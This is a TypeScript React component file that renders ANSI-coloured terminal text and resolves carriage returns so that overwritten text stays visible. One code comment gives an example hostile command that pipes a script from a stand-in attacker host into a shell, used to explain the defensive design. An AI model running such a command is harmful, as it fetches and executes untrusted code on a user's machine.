"use client";

import { memo } from "react";
import { LEFTOVER_CONTROLS } from "./ansi-controls.js";
import { ansiParser } from "./ansi-parser.js";
import { useLazyResource } from "./lazy-resource.js";
import { revealInvisible } from "./visible-text.js";

/**
 * What a terminal shows of each line after carriage returns: each part
 * overwrites the start of the line and leaves the rest (a progress bar shows
 * its last state; `curl evil.sh | sh\rls -la` does not become `ls -la`).
 */
function applyCarriageReturns(text: string): string {
  if (!text.includes("\r")) return text;
  return text.replace(/\r\n/g, "\n").split("\n").map(overwrite).join("\n");
}

/**
 * A line as its last state: each character from the latest part that
 * reaches it. From the last part back, each earlier one adds only what
 * reaches past the rest, so a line of many returns costs its length once.
 */
function overwrite(line: string): string {
  const parts = line.split("\r");
  let shown = parts.at(-1) ?? "";
  for (let i = parts.length - 2; i >= 0; i--) {
    const part = parts[i]!;
    if (part.length > shown.length) shown += part.slice(shown.length);
  }
  return shown;
}

/** Removes every escape sequence, for copying and for matching. */
export function stripAnsi(text: string): string {
  return applyCarriageReturns(text).replace(LEFTOVER_CONTROLS, "");
}

/**
 * Terminal text as React spans: SGR colours, bold, italic, underline and
 * dim become classes or inline colours (ansi-spans.tsx, loaded with the
 * parser when a text has an escape); every other control byte is dropped.
 * The content is only ever a text node, never HTML.
 */
export const AnsiText = memo(function AnsiText({ text }: { text: string }) {
  const clean = applyCarriageReturns(text);
  const escaped = clean.includes("\x1b");
  const spans = useLazyResource(ansiParser, escaped);
  // Until the parser has loaded, the text shows without its colours.
  if (!escaped || !spans) return <>{revealInvisible(clean.replace(LEFTOVER_CONTROLS, ""))}</>;
  return <>{spans.ansiSpans(clean)}</>;
});
